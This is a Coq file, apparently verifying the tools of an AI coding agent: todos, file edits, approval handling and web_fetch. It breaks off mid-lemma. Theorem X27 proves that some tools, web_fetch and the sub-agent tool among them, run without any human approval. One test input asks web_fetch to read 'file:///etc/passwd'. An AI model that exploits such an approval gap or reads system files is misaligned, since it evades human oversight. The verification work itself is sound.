  { unfold added, addCall, execute. cbn. now rewrite Tt. }
  split; [now rewrite Ea|].
  assert (G : mapGet key later = Some text).
  { unfold later. rewrite (untouched_entries key calls _ F), Ea. apply mapGet_mapSet_same. }
  intros drawn. unfold execute, completing. cbn. rewrite Tk, G.
  split; [reflexivity|]. now rewrite mapGet_mapDelete_same.
Qed.

Lemma executeAll_app (a b : list Call) (todos : Store) :
  executeAll (a ++ b) todos = executeAll b (executeAll a todos).
Proof. apply fold_left_app. Qed.

Lemma mapSet_fresh (key value : string) (todos : Store) :
  ~ In key (List.map fst todos) -> mapSet key value todos = (todos ++ [(key, value)])%list.
Proof.
  induction todos as [|[k v] rest IH]; intros N; [reflexivity|].
  cbn in *. destruct (String.eqb_spec k key) as [->|Nk]; [tauto|].
  rewrite IH; tauto.
Qed.

(** The entries that a run of [add] calls on a new tool makes, when the
    texts are not empty and the ids drawn differ. *)
Lemma adds_in_order (adds : list (string * string)) :
  Forall (fun a => fst a <> "") adds ->
  NoDup (List.map (fun a => String.substring 0 8 (snd a)) adds) ->
  executeAll (List.map (fun a => addCall (fst a) (snd a)) adds) []
  = List.map (fun a => (String.substring 0 8 (snd a), fst a)) adds.
Proof.
  induction adds as [|[text uuid] adds IH] using rev_ind; intros F D; [reflexivity|].
  rewrite !List.map_app in *. apply Forall_app in F as [F Fx].
  apply NoDup_app in D as (D & Dx & _).
  rewrite executeAll_app, (IH F D). cbn.
  assert (Tt : Js.truthyStr text = true).
  { inversion Fx as [|? ? Nt _]. cbn in Nt. now destruct text. }
  unfold execute. cbn. rewrite Tt. cbn.
  apply mapSet_fresh. rewrite List.map_map. cbn.
  intros I. apply (Dx (String.substring 0 8 uuid)).
  - now apply list_elem_of_In.
  - cbn. left.
Qed.

(** X24: todos are listed in the order in which they were added.  After
    any run of [add] calls on a new tool with non-empty texts and distinct
    ids, [list] prints the header and one line per todo, in the order of the
    calls, and [clear] reports their number and empties the list. *)
Theorem todos_are_listed_in_the_order_added (adds : list (string * string)) :
  adds <> [] ->
  Forall (fun a => fst a <> "") adds ->
  NoDup (List.map (fun a => String.substring 0 8 (snd a)) adds) ->
  let todos := executeAll (List.map (fun a => addCall (fst a) (snd a)) adds) [] in
  forall drawn,
    fst (execute listing drawn todos)
    = mkSuccess
        (Js.join Js.nl
           ("Todos:" :: List.map (fun a => line (String.substring 0 8 (snd a), fst a)) adds))
    /\ execute {| action := "clear"; id := None; content := None |} drawn todos
       = (mkSuccess ("Cleared " ++ Js.ofNat (List.length adds) ++ " todos"), []).
Proof.
  intros Ne F D todos drawn. unfold todos. rewrite (adds_in_order adds F D).
  unfold execute, listing. cbn. rewrite !List.length_map, List.map_map.
  destruct adds as [|a adds]; [contradiction|]. cbn. now split.
Qed.

End TodoFacts.

Section TodoWitness.
Import ToolBase Todos.

(** Two todos, a listing in between, and the first one completed. *)
Lemma added_todo_stays_until_completed_witness :
  let first := "3f2a9c1e-0000-4000-8000-000000000001" in
  let second := "b7d0e412-0000-4000-8000-000000000002" in
  let later := executeAll [addCall "run the tests" second; (listing, "")]
                 (snd (execute (fst (addCall "write the parser" first)) first [])) in
  later = [("3f2a9c1e", "write the parser"); ("b7d0e412", "run the tests")]
  /\ execute {| action := "complete"; id := Some "3f2a9c1e"; content := None |} "" later
     = (mkSuccess "Completed todo [3f2a9c1e]: write the parser",
        [("b7d0e412", "run the tests")]).
Proof.
  cbv zeta. split; [now vm_compute|].
  exact (proj1 (proj2 (added_todo_stays_until_completed "write the parser"
                         "3f2a9c1e-0000-4000-8000-000000000001"
                         [addCall "run the tests" "b7d0e412-0000-4000-8000-000000000002";
                          (listing, "")] []
                         ltac:(discriminate) ltac:(discriminate)
                         ltac:(repeat constructor)) "")).
Defined.

Lemma todos_are_listed_in_the_order_added_witness :
  fst (execute listing ""
         (executeAll [addCall "write the parser" "3f2a9c1e-0000";
                      addCall "run the tests" "b7d0e412-0000"] []))
  = mkSuccess ("Todos:" ++ Js.nl ++ "  [3f2a9c1e] write the parser" ++ Js.nl
               ++ "  [b7d0e412] run the tests").
Proof.
  exact (proj1 (todos_are_listed_in_the_order_added
                  [("write the parser", "3f2a9c1e-0000"); ("run the tests", "b7d0e412-0000")]
                  ltac:(discriminate)
                  ltac:(repeat constructor; discriminate)
                  ltac:(apply (bool_decide_unpack _); now vm_compute) "")).
Defined.

(** An id drawn twice: the second [add] replaces the text of the first
    todo where it stands, and the list stays at one entry. *)
Lemma todo_examples :
  executeAll [addCall "write the parser" "3f2a9c1e-0000-4000";
              addCall "run the tests" "3f2a9c1e-ffff-4fff"] []
  = [("3f2a9c1e", "run the tests")]
  /\ fst (execute {| action := "LIST"; id := None; content := None |} "" [])
     = mkSuccess "No todos"
  /\ fst (execute {| action := "remove"; id := Some "3f2a9c1e"; content := None |} "" [])
     = mkError "Unknown action: remove" "" ∅.
Proof. repeat split. Qed.

End TodoWitness.

(** ** The edit tool: what an edit writes *)

Section StringFacts.

Lemma startsWith_drop (s p : string) :
  Js.startsWith s p = true -> s = (p ++ Js.drop (String.length p) s)%string.
Proof.
  revert p. induction s as [|c s IH]; intros [|d p] E; try reflexivity; try discriminate.
  cbn in E. apply andb_prop in E as [Ec Ep].
  destruct (Ascii.eqb_spec d c) as [->|]; [|discriminate].
  rewrite append_cons. cbn [String.length Js.drop]. f_equal. now apply IH.
Qed.

Lemma startsWith_nil (s : string) : Js.startsWith s "" = true.
Proof. now destruct s. Qed.

Lemma startsWith_append (s p rest : string) :
  Js.startsWith s p = true -> Js.startsWith (s ++ rest) p = true.
Proof.
  revert p. induction s as [|c s IH]; intros [|d p] E; try discriminate.
  - apply startsWith_nil.
  - reflexivity.
  - rewrite append_cons. cbn in *. apply andb_prop in E as [-> Ep]. cbn. now apply IH.
Qed.

Lemma breakAt_unfold (sep s : string) :
  Js.breakAt sep s
  = if Js.startsWith s sep then Some ("", Js.drop (String.length sep) s)
    else match s with
         | EmptyString => None
         | String c s' =>
             match Js.breakAt sep s' with
             | Some (before, after) => Some (String c before, after)
             | None => None
             end
         end.
Proof. now destruct s. Qed.

(** The first occurrence splits the text. *)
Lemma breakAt_splits (sep s before after : string) :
  Js.breakAt sep s = Some (before, after) -> s = (before ++ sep ++ after)%string.
Proof.
  revert before. induction s as [|c s IH]; intros before; rewrite breakAt_unfold.
  - destruct (Js.startsWith "" sep) eqn:E; [|discriminate].
    intros [= <- <-]. now apply startsWith_drop.
  - destruct (Js.startsWith (String c s) sep) eqn:E.
    + intros [= <- <-]. now apply startsWith_drop.
    + destruct (Js.breakAt sep s) as [[b a]|]; [|discriminate].
      intros [= <- <-]. rewrite append_cons. f_equal. now apply IH.
Qed.

Lemma breakAt_nil (sep : string) : sep <> "" -> Js.breakAt sep "" = None.
Proof. now destruct sep. Qed.

(** There is no occurrence inside the text before the first occurrence. *)
Lemma breakAt_before (sep s before after : string) :
  sep <> "" -> Js.breakAt sep s = Some (before, after) -> Js.breakAt sep before = None.
Proof.
  intros Ns. revert before. induction s as [|c s IH]; intros before; rewrite breakAt_unfold.
  - destruct (Js.startsWith "" sep); [|discriminate].
    intros [= <- <-]. now apply breakAt_nil.
  - destruct (Js.startsWith (String c s) sep) eqn:E.
    + intros [= <- <-]. now apply breakAt_nil.
    + destruct (Js.breakAt sep s) as [[b a]|] eqn:Eb; [|discriminate].
      intros [= <- <-]. rewrite breakAt_unfold, (IH b eq_refl).
      destruct (Js.startsWith (String c b) sep) eqn:E'; [|reflexivity].
      apply (startsWith_append _ _ (sep ++ a)) in E'.
      apply breakAt_splits in Eb. rewrite append_cons, <- Eb in E'. congruence.
Qed.

Lemma breakAt_shorter (sep s before after : string) :
  sep <> "" -> Js.breakAt sep s = Some (before, after) ->
  String.length after < String.length s.
Proof.
  intros Ns E. apply breakAt_splits in E. subst s.
  rewrite !length_append. destruct sep; [contradiction|]. cbn. lia.
Qed.

Lemma splitFuel_unfold (fuel : nat) (sep s : string) :
  Js.splitFuel fuel sep s
  = match Js.breakAt sep s with
    | None => [s]
    | Some (before, after) =>
        match fuel with
        | O => [s]
        | S fuel' => before :: Js.splitFuel fuel' sep after
        end
    end.
Proof. now destruct fuel. Qed.

(** Fuel beyond the length of the text makes no difference. *)
Lemma splitFuel_any (sep : string) (n : nat) (s : string) (fuel : nat) :
  sep <> "" -> String.length s <= n -> String.length s <= fuel ->
  Js.splitFuel fuel sep s = Js.splitFuel (String.length s) sep s.
Proof.
  intros Ns. revert s fuel. induction n as [|n IH]; intros s fuel Ln Lf;
    rewrite (splitFuel_unfold fuel), (splitFuel_unfold (String.length s)).
  - destruct s; [|cbn in Ln; lia]. now rewrite (breakAt_nil _ Ns).
  - destruct (Js.breakAt sep s) as [[b a]|] eqn:E; [|reflexivity].
    pose proof (breakAt_shorter _ _ _ _ Ns E) as La.
    destruct fuel as [|fuel]; [lia|]. destruct (String.length s) as [|m] eqn:Em; [lia|].
    rewrite (IH a fuel ltac:(lia) ltac:(lia)), (IH a m ltac:(lia) ltac:(lia)). reflexivity.
Qed.

(** With the length of the text as fuel, [split] stops because no
    separator is left. *)
Lemma split_unfold (sep s : string) :
  sep <> "" ->
  Js.split sep s
  = match Js.breakAt sep s with
    | None => [s]
    | Some (before, after) => before :: Js.split sep after
    end.
Proof.
  intros Ns. unfold Js.split. rewrite splitFuel_unfold.
  destruct (Js.breakAt sep s) as [[b a]|] eqn:E; [|reflexivity].
  pose proof (breakAt_shorter _ _ _ _ Ns E) as La.
  destruct (String.length s) as [|m] eqn:Em; [lia|].
  now rewrite (splitFuel_any sep m a m Ns ltac:(lia) ltac:(lia)).
Qed.

(** The string functions of JavaScript and Node on small inputs. *)
Lemma string_examples :
  Js.split "ab" "xxabyyabab" = ["xx"; "yy"; ""; ""]
  /\ Js.replace "ab" "[$&|$$|$1]" "xxabyyab" = "xx[ab|$|$1]yyab"
  /\ Js.replaceAll "ab" "<$`>" "xabyab" = "x<x>y<xaby>"
  /\ Js.replaceAll "aa" "b" "aaaaa" = "bba"
  /\ Js.splitLines ("a" ++ String Js.cr (String Js.lf "b") ++ String Js.lf (String Js.cr ""))
     = ["a"; "b"; String Js.cr ""]
  /\ Js.splitSpaces false "  foo  bar " = [""; "foo"; "bar"; ""]
  /\ Js.splitSpaces false "" = [""]
  /\ List.map Path.dirname ["/a/b"; "/a"; "/"; "a"; "a/b/"; "/a//b"; "//a"; ""]
     = ["/a"; "/"; "/"; "."; "a"; "/a/"; "//"; "."].
Proof. repeat split; vm_compute; reflexivity. Qed.

End StringFacts.

Section ReplaceFacts.
Import Edit.

Lemma substitution_plain (matched before after template : string) :
  plain template = true -> Js.substitution matched before after template = template.
Proof.
  induction template as [|c t IH]; [reflexivity|].
  cbn. destruct (Ascii.eqb c "$"); [discriminate|]. cbn. intros P. now rewrite IH.
Qed.

Lemma substitution_skips_plain (matched before after head rest : string) :
  plain head = true ->
  Js.substitution matched before after (head ++ rest)
  = (head ++ Js.substitution matched before after rest)%string.
Proof.
  induction head as [|c t IH]; [reflexivity|].
  cbn [plain]. destruct (Ascii.eqb c "$") eqn:E; [discriminate|]. cbn [negb andb].
  intros P. rewrite !append_cons. cbn [Js.substitution]. rewrite E. now rewrite IH.
Qed.

Lemma splitFuel_nonempty (fuel : nat) (sep s : string) : Js.splitFuel fuel sep s <> [].
Proof.
  rewrite splitFuel_unfold. destruct (Js.breakAt sep s) as [[b a]|]; [|discriminate].
  destruct fuel; discriminate.
Qed.

(** Joining the pieces with the separator gives the text back. *)
Lemma join_splitFuel (fuel : nat) (sep s : string) :
  Js.join sep (Js.splitFuel fuel sep s) = s.
Proof.
  revert s. induction fuel as [|fuel IH]; intros s; rewrite splitFuel_unfold;
    destruct (Js.breakAt sep s) as [[b a]|] eqn:E; try reflexivity.
  rewrite (join_cons sep b (Js.splitFuel fuel sep a)) by apply splitFuel_nonempty.
  rewrite IH. symmetry. now apply breakAt_splits.
Qed.

(** With a replacement free of dollar signs, [replaceAll] joins the pieces
    with the replacement. *)
Lemma replaceAllFuel_plain (fuel : nat) (pattern template seen s : string) :
  plain template = true ->
  Js.replaceAllFuel fuel pattern template seen s
  = Js.join template (Js.splitFuel fuel pattern s).
Proof.
  intros P. revert seen s. induction fuel as [|fuel IH]; intros seen s;
    rewrite splitFuel_unfold; cbn [Js.replaceAllFuel];
    destruct (Js.breakAt pattern s) as [[b a]|] eqn:E; try reflexivity.
  rewrite (join_cons template b (Js.splitFuel fuel pattern a)) by apply splitFuel_nonempty.
  now rewrite IH, substitution_plain.
Qed.

(** No piece of a split contains the separator. *)
Lemma split_pieces (sep : string) (n : nat) (s : string) :
  sep <> "" -> String.length s <= n ->
  Forall (fun piece => Js.breakAt sep piece = None) (Js.split sep s).
Proof.
  intros Ns. revert s. induction n as [|n IH]; intros s L; rewrite (split_unfold _ _ Ns).
  - destruct s; [|cbn in L; lia]. rewrite (breakAt_nil _ Ns). repeat constructor.
    now apply breakAt_nil.
  - destruct (Js.breakAt sep s) as [[b a]|] eqn:E; [|now repeat constructor].
    pose proof (breakAt_shorter _ _ _ _ Ns E) as La.
    constructor; [now apply (breakAt_before sep s b a)|]. apply IH. lia.
Qed.

(** One separator counted: the text after the first occurrence holds no
    other. *)
Lemma split_once (sep s : string) :
  sep <> "" -> List.length (Js.split sep s) - 1 = 1 ->
  exists before after,
    Js.breakAt sep s = Some (before, after) /\ Js.breakAt sep after = None.
Proof.
  intros Ns. rewrite (split_unfold _ _ Ns).
  destruct (Js.breakAt sep s) as [[b a]|] eqn:E; [|cbn; lia].
  rewrite (split_unfold _ _ Ns). destruct (Js.breakAt sep a) as [[b' a']|] eqn:E'.
  - pose proof (splitFuel_nonempty (String.length a') sep a') as Hn.
    fold (Js.split sep a') in Hn. destruct (Js.split sep a'); [contradiction|].
    cbn [List.length]. lia.
  - intros _. now exists b, a.
Qed.

End ReplaceFacts.

Section EditClaims.
Import ToolBase Data Eff Registry Edit.
Context `{Env}.
Variable existsSync : string -> Ext -> bool.
Variable readFileSync : string -> M Ext string.
Variable writeFileSync : string -> string -> M Ext unit.

(** [execute] on a file that exists and can be read, with an [old_string]
    that is not empty: what follows the reading. *)
Lemma execute_on_a_file (params : EditParams) (cwd target oldContent oldString : string)
    (e e1 : Ext) :
  resolvePath cwd (Some (Js.VStr (path params))) = inr target ->
  existsSync target e = true ->
  readFileSync target e = (inr oldContent, e1) ->
  old_string params = Some oldString -> oldString <> "" ->
  execute existsSync readFileSync writeFileSync params cwd e
  = let occurrenceCount := List.length (Js.split oldString oldContent) - 1 in
    let replaceAll := Js.nullish (replace_all params) false in
    if (occurrenceCount =? 0)%nat then (inr (noMatchError oldString oldContent target), e1)
    else if (1 <? occurrenceCount)%nat && negb replaceAll then
      (inr (mkError
              ("old_string found " ++ Js.ofNat occurrenceCount ++ " times in " ++ target
               ++ ". Either: " ++ Js.nl
               ++ "1. Provide more context to make the match unique or" ++ Js.nl
               ++ "2. Set replace_all=true to replace all occurrences")
              "" {[ "occurrence_count" := Js.VNum (Z.of_nat occurrenceCount) ]}), e1)
    else
      let newContent :=
        if replaceAll then Js.replaceAll oldString (new_string params) oldContent
        else Js.replace oldString (new_string params) oldContent in
      let replaceCount := if replaceAll then occurrenceCount else 1 in
      if String.eqb newContent oldContent then
        (inr (mkError "No change made - old_string equals new_string" "" ∅), e1)
      else
        match writeFileSync target newContent e1 with
        | (inl error, e2) => (inr (mkError ("failed to write file: " ++ error) "" ∅), e2)
        | (inr _, e2) => (inr (edited target oldContent newContent replaceCount), e2)
        end.
Proof.
  intros Hr Hx Hread Ho Nn.
  assert (T : Js.truthyStr oldString = true) by now destruct oldString.
  unfold execute. rewrite Hr. unfold bind at 1, liftExc. unfold bind at 1, gets.
  rewrite Hx. cbn [negb]. rewrite (bind_returns _ _ _ _ _ Hread), Ho, T. cbv zeta.
  destruct (_ =? 0)%nat; [reflexivity|].
  destruct (_ && _); [reflexivity|].
  destruct (String.eqb _ _); [reflexivity|].
  unfold bind, tryCatch, ret.
  destruct (writeFileSync target _ e1) as [[error|[]] e2]; reflexivity.
Qed.

(** X25: an edit without [replace_all] that succeeds has replaced the one
    occurrence of [old_string].  The file read holds [old_string] once (no
    occurrence before the first one, none in the text after it), the text
    written and reported in the diff is the file with that occurrence
    replaced, it differs from the file, and one replacement is reported.
    The replacement is [new_string] itself when [new_string] holds no dollar
    sign; otherwise [replace] reads it as a template, and in particular
    writes a single dollar sign for a doubled one. *)
Theorem edit_replaces_the_one_occurrence (params : EditParams)
    (cwd target oldContent oldString : string) (e e1 : Ext) (result : ToolResult) :
  resolvePath cwd (Some (Js.VStr (path params))) = inr target ->
  existsSync target e = true ->
  readFileSync target e = (inr oldContent, e1) ->
  old_string params = Some oldString -> oldString <> "" ->
  Js.nullish (replace_all params) false = false ->
  fst (execute existsSync readFileSync writeFileSync params cwd e) = inr result ->
  success result = true ->
  exists before after,
    oldContent = (before ++ oldString ++ after)%string
    /\ Js.breakAt oldString before = None
    /\ Js.breakAt oldString after = None
    /\ let newContent :=
         (before ++ Js.substitution oldString before after (new_string params)
          ++ after)%string in
       newContent <> oldContent
       /\ execute existsSync readFileSync writeFileSync params cwd e
          = (inr (edited target oldContent newContent 1),
             snd (writeFileSync target newContent e1))
       /\ (plain (new_string params) = true ->
           newContent = (before ++ new_string params ++ after)%string)
       /\ (forall head rest,
             plain head = true -> new_string params = (head ++ "$$" ++ rest)%string ->
             newContent
             = (before ++ head ++ "$" ++ Js.substitution oldString before after rest
                ++ after)%string).
Proof.
  intros Hr Hx Hread Ho Nn Ha.
  rewrite (execute_on_a_file params cwd target oldContent oldString e e1 Hr Hx Hread Ho Nn).
  cbv zeta. rewrite Ha. cbn [negb]. rewrite andb_true_r.
  destruct (Nat.eqb_spec (List.length (Js.split oldString oldContent) - 1) 0) as [|N0];
    [intros [= <-]; discriminate|].
  destruct (Nat.ltb_spec 1 (List.length (Js.split oldString oldContent) - 1)) as [|L1];
    [intros [= <-]; discriminate|].
  destruct (split_once oldString oldContent Nn ltac:(lia)) as (before & after & Eb & Ea).
  unfold Js.replace. rewrite Eb.
  destruct (String.eqb_spec
              (before ++ Js.substitution oldString before after (new_string params) ++ after)
              oldContent) as [|Nc]; [intros [= <-]; discriminate|].
  destruct (writeFileSync target _ e1) as [[error|[]] e2] eqn:Ew;
    [intros [= <-]; discriminate|].
  intros _ _. exists before, after.
  split; [now apply breakAt_splits|].
  split; [now apply (breakAt_before oldString oldContent before after)|].
  split; [exact Ea|]. cbv zeta. split; [exact Nc|]. split; [now rewrite Ew|]. split.
  - intros P. now rewrite substitution_plain.
  - intros head rest P ->. rewrite (substitution_skips_plain _ _ _ _ _ P).
    change ("$$" ++ rest)%string with (String "$" (String "$" rest)).
    cbn [Js.substitution Ascii.eqb Bool.eqb]. now rewrite !append_assoc.
Qed.

(** X26: an edit with [replace_all] and a [new_string] free of dollar
    signs that succeeds has replaced every occurrence counted.  The file
    read is its pieces (none of which holds [old_string]) joined with
    [old_string]; the text written and reported in the diff is the same
    pieces joined with [new_string]; the number of replacements reported is
    the number of pieces less one, and it is at least one. *)
Theorem replace_all_joins_the_pieces (params : EditParams)
    (cwd target oldContent oldString : string) (e e1 : Ext) (result : ToolResult) :
  resolvePath cwd (Some (Js.VStr (path params))) = inr target ->
  existsSync target e = true ->
  readFileSync target e = (inr oldContent, e1) ->
  old_string params = Some oldString -> oldString <> "" ->
  replace_all params = Some true ->
  plain (new_string params) = true ->
  fst (execute existsSync readFileSync writeFileSync params cwd e) = inr result ->
  success result = true ->
  let pieces := Js.split oldString oldContent in
  let newContent := Js.join (new_string params) pieces in
  2 <= List.length pieces
  /\ Forall (fun piece => Js.breakAt oldString piece = None) pieces
  /\ oldContent = Js.join oldString pieces
  /\ newContent <> oldContent
  /\ execute existsSync readFileSync writeFileSync params cwd e
     = (inr (edited target oldContent newContent (List.length pieces - 1)),
        snd (writeFileSync target newContent e1)).
Proof.
  intros Hr Hx Hread Ho Nn Ha P.
  rewrite (execute_on_a_file params cwd target oldContent oldString e e1 Hr Hx Hread Ho Nn).
  cbv zeta. rewrite Ha. cbn [Js.nullish negb]. rewrite andb_false_r.
  destruct (Nat.eqb_spec (List.length (Js.split oldString oldContent) - 1) 0) as [|N0];
    [intros [= <-]; discriminate|].
  unfold Js.replaceAll. rewrite (replaceAllFuel_plain _ _ _ _ _ P).
  fold (Js.split oldString oldContent).
  destruct (String.eqb_spec (Js.join (new_string params) (Js.split oldString oldContent))
              oldContent) as [|Nc]; [intros [= <-]; discriminate|].
  destruct (writeFileSync target _ e1) as [[error|[]] e2] eqn:Ew;
    [intros [= <-]; discriminate|].
  intros _ _. split; [lia|].
  split; [now apply (split_pieces oldString (String.length oldContent))|].
  split; [symmetry; apply join_splitFuel|]. split; [exact Nc|]. reflexivity.
Qed.

End EditClaims.

Section EditWitness.
#[local] Existing Instance Examples.demoEnv.
Import ToolBase Data Eff Registry Edit Examples EditExamples.

(** Replacing [build] by [make $$(T)] in a one-line file: the doubled dollar
    sign is written as one. *)
Lemma edit_replaces_the_one_occurrence_witness :
  exists before after,
    "run: build test" = (before ++ "build" ++ after)%string
    /\ fst (demoEdit "run: build test" (editing "build" "make $$(T)" false) 0)
       = inr (edited makefile "run: build test"
                (before ++ "make $(T)" ++ after) 1).
Proof.
  destruct (@edit_replaces_the_one_occurrence demoEnv onlyMakefile
              (reading "run: build test") writing
              (editing "build" "make $$(T)" false) "/home/user/project" makefile
              "run: build test" "build" 0 0
              (edited makefile "run: build test" "run: make $(T) test" 1)
              eq_refl eq_refl eq_refl eq_refl ltac:(discriminate) eq_refl
              ltac:(now vm_compute) eq_refl)
    as (before & after & Es & _ & _ & _ & Ex & _).
  exists before, after. split; [exact Es|].
  unfold demoEdit. rewrite Ex. cbn [fst]. do 2 f_equal.
Defined.

(** Replacing every comma in a list of three. *)
Lemma replace_all_joins_the_pieces_witness :
  Js.split ", " "a, b, c" = ["a"; "b"; "c"]
  /\ demoEdit "a, b, c" (editing ", " "; " true) 0
     = (inr (edited makefile "a, b, c" "a; b; c" 2), 1).
Proof.
  split; [now vm_compute|].
  exact (proj2 (proj2 (proj2 (proj2
           (@replace_all_joins_the_pieces demoEnv onlyMakefile (reading "a, b, c") writing
              (editing ", " "; " true) "/home/user/project" makefile "a, b, c" ", " 0 0
              (edited makefile "a, b, c" "a; b; c" 2)
              eq_refl eq_refl eq_refl eq_refl ltac:(discriminate) eq_refl eq_refl
              ltac:(now vm_compute) eq_refl))))).
Defined.

(** What the tool answers when it does not edit: a second occurrence
    without [replace_all], no occurrence, a missing file. *)
Lemma edit_examples :
  fst (demoEdit "a, b, c" (editing ", " "; " false) 0)
  = inr (mkError
           ("old_string found 2 times in /home/user/project/Makefile. Either: " ++ Js.nl
            ++ "1. Provide more context to make the match unique or" ++ Js.nl
            ++ "2. Set replace_all=true to replace all occurrences")
           "" {[ "occurrence_count" := Js.VNum 2 ]})
  /\ fst (demoEdit ("all: build" ++ Js.nl ++ "  build: cc") (editing "build it" "x" false) 0)
     = inr (mkError
              ("old_string not found in /home/user/project/Makefile."
               ++ Js.nl ++ Js.nl ++ "Possible similar lines:"
               ++ Js.nl ++ "  Line 1: all: build"
               ++ Js.nl ++ "  Line 2: build: cc"
               ++ Js.nl ++ Js.nl
               ++ "Make sure old_string matches exactly (including whitespace and indentation).")
              "" ∅)
  /\ fst (demoEdit "" {| path := "notes/todo.txt"; old_string := Some "x";
                         new_string := "y"; replace_all := None |} 0)
     = inr (mkError ("File does not exist: /home/user/project/notes/todo.txt."
                     ++ " To create a new file, use an empty old_string.") "" ∅).
Proof. repeat split; now vm_compute. Qed.

End EditWitness.

(** ** Tools that keep the confirmation of the base class; web_fetch *)

Section InheritedConfirmation.
Import ToolBase Data Eff Hooks Approval Registry.
Context `{Env}.

Lemma bind_same {S A B} (m : M S A) (k1 k2 : A -> M S B) (s : S) :
  (forall a s', k1 a s' = k2 a s') -> bind m k1 s = bind m k2 s.
Proof. intros E. unfold bind. destruct (m s) as [[error|a] s']; [reflexivity|apply E]. Qed.

(** The approval step on a tool that keeps the confirmation of the base
    class: it ends nothing, whoever manages approvals. *)
Lemma approvalGate_inherited (tool : Tool) (toolName : string) (params : Params)
    (cwd : string) (hs : HookSystem) (am : ApprovalManager Callback) (w : World) :
  getConfirmation tool = baseGetConfirmation (name tool) (toolIsMutating tool) ->
  approvalGate tool toolName params {| params := params; cwd := cwd |} hs (Some am) w
  = (inr None, w).
Proof.
  intros E. unfold approvalGate. rewrite E. unfold baseGetConfirmation.
  destruct w as [e tr].
  destruct (toolIsMutating tool) eqn:Em; cbn [negb]; [|reflexivity].
  unfold bind at 1, onExt, zoom, ret. cbn [ext trace].
  unfold checkApproval, contextOf, commandVerdict. cbn. rewrite Em. reflexivity.
Qed.

(** X27: a tool that keeps [getConfirmation] of the base class (the MCP
    tools, the sub-agent tool, web_fetch, web_search, memory, todos) is
    never checked.  Its descriptor carries no command, no path and no
    danger flag, so [checkApproval] approves it under every policy, and
    [invoke] with an approval manager does exactly what it does without
    one: the human is not asked and nothing is rejected. *)
Theorem inherited_confirmation_is_always_approved (reg : ToolRegistry)
    (toolName : string) (tool : Tool) (params : Params) (cwd : string) (hs : HookSystem)
    (am : ApprovalManager Callback) (w : World) :
  get reg toolName = Some tool ->
  getConfirmation tool = baseGetConfirmation (name tool) (toolIsMutating tool) ->
  checkApproval (Path.resolve procCwd) am
    (contextOf tool toolName params
       {| toolName := name tool; confParams := params;
          description := "Execute " ++ name tool; confDiff := None;
          affectedPaths := None; command := None; isDangerous := None |})
  = APPROVED
  /\ invoke reg toolName params cwd hs (Some am) w
     = invoke reg toolName params cwd hs None w.
Proof.
  intros Eg E. split.
  - unfold checkApproval, contextOf, commandVerdict. cbn.
    now destruct (toolIsMutating tool).
  - unfold invoke. rewrite Eg.
    destruct (0 <? List.length (validateParams tool params))%nat; [reflexivity|].
    apply bind_same. intros _ w1. unfold bind.
    now rewrite (approvalGate_inherited tool toolName params cwd hs am w1 E).
Qed.

End InheritedConfirmation.

Section WebFetchFacts.
Import ToolBase Data Eff Registry WebFetch.
Context `{Env}.
Variable fetch : string -> Js.Value -> M Ext (Response Ext).

(** X28: what web_fetch returns on a URL.  It never throws: a failing
    request or body becomes the 'Request failed' error.  A URL that starts
    with neither [http://] nor [https://] is refused without any request.
    The output is never longer than 102400 characters plus the truncation
    note; a success comes from a response that is ok, carries the body or
    its first 102400 characters followed by the note, and records the length
    of the whole body. *)
Theorem web_fetch_never_throws_and_bounds_its_output (params : Params) (url : string)
    (e : Ext) :
  exists result e',
    fetchUrl fetch params url e = (inr result, e')
    /\ String.length (output result) <= MAX_CONTENT + 24
    /\ (Js.startsWith url "http://" = false -> Js.startsWith url "https://" = false ->
        result = mkError "Url must be http:// or https://" "" ∅ /\ e' = e)
    /\ (success result = true ->
        exists response body e1 e2,
          fetch url (timeoutOf params) e = (inr response, e1)
          /\ ok response = true
          /\ text response e1 = (inr body, e2)
          /\ e' = e2
          /\ metadata result !! "content_length"
             = Some (Js.VNum (Z.of_nat (String.length body)))
          /\ output result
             = if (MAX_CONTENT <? String.length body)%nat
               then (String.substring 0 MAX_CONTENT body ++ Js.nl
                     ++ "... [content truncated]")%string
               else body).
Proof.
  assert (Short : forall message, String.length (output (mkError message "" ∅))
                                  <= MAX_CONTENT + 24).
  { intros message. cbn [output mkError String.length]. lia. }
  unfold fetchUrl.
  destruct (Js.startsWith url "http://") eqn:E1;
    destruct (Js.startsWith url "https://") eqn:E2; cbn [negb andb].
  4: { eexists _, _. split; [reflexivity|]. split; [apply Short|].
       split; [auto|discriminate]. }
  all: unfold tryCatch, bind;
    destruct (fetch url (timeoutOf params) e) as [[error|response] e1] eqn:Ef;
    [eexists _, _; split; [reflexivity|];
     split; [apply Short|split; [intros; discriminate|discriminate]]|];
    destruct (ok response) eqn:Eo; cbn [negb];
    [|eexists _, _; split; [reflexivity|];
      split; [apply Short|split; [intros; discriminate|discriminate]]];
    destruct (text response e1) as [[error|body] e2] eqn:Et;
    [eexists _, _; split; [reflexivity|];
     split; [apply Short|split; [intros; discriminate|discriminate]]|];
    eexists _, _; (split; [reflexivity|]); cbn [output fetched success metadata];
    (split; [|split; [intros; discriminate|]]).
  all: try (destruct (Nat.ltb_spec MAX_CONTENT (String.length body)); [|lia];
            rewrite length_append;
            pose proof (length_substring_le MAX_CONTENT body);
            change (String.length (Js.nl ++ "... [content truncated]")) with 24; lia).
  all: intros _; exists response, body, e1, e2; repeat split; auto.
Qed.

End WebFetchFacts.

Section WebFetchWitness.
#[local] Existing Instance Examples.demoEnv.
Import ToolBase Data Eff Hooks Approval Registry WebFetch Examples WebFetchExamples.

(** Under policy never, with a human who would decline, web_fetch is
    invoked as if there were no approval manager, and the page is
    fetched. *)
Lemma inherited_confirmation_is_always_approved_witness :
  let params : Params := {[ "url" := Js.VStr "https://example.org/" ]} in
  invoke fetchRegistry "web_fetch" params "/home/user/project" noHooks
    (Some (declining NEVER)) startWorld
  = invoke fetchRegistry "web_fetch" params "/home/user/project" noHooks None startWorld
  /\ fst (invoke fetchRegistry "web_fetch" params "/home/user/project" noHooks
            (Some (declining NEVER)) startWorld)
     = inr (fetched 200 "<html>hello</html>").
Proof.
  cbv zeta. split; [|now vm_compute].
  exact (proj2 (@inherited_confirmation_is_always_approved demoEnv fetchRegistry
                  "web_fetch" demoFetch {[ "url" := Js.VStr "https://example.org/" ]}
                  "/home/user/project" noHooks (declining NEVER) startWorld
                  eq_refl eq_refl)).
Defined.

(** A URL of another scheme; a page of 200,000 characters. *)
Lemma web_fetch_examples :
  fetchUrl steadyNet ∅ "file:///etc/passwd" 0
  = (inr (mkError "Url must be http:// or https://" "" ∅), 0)
  /\ fst (fetchUrl (fun _ _ e =>
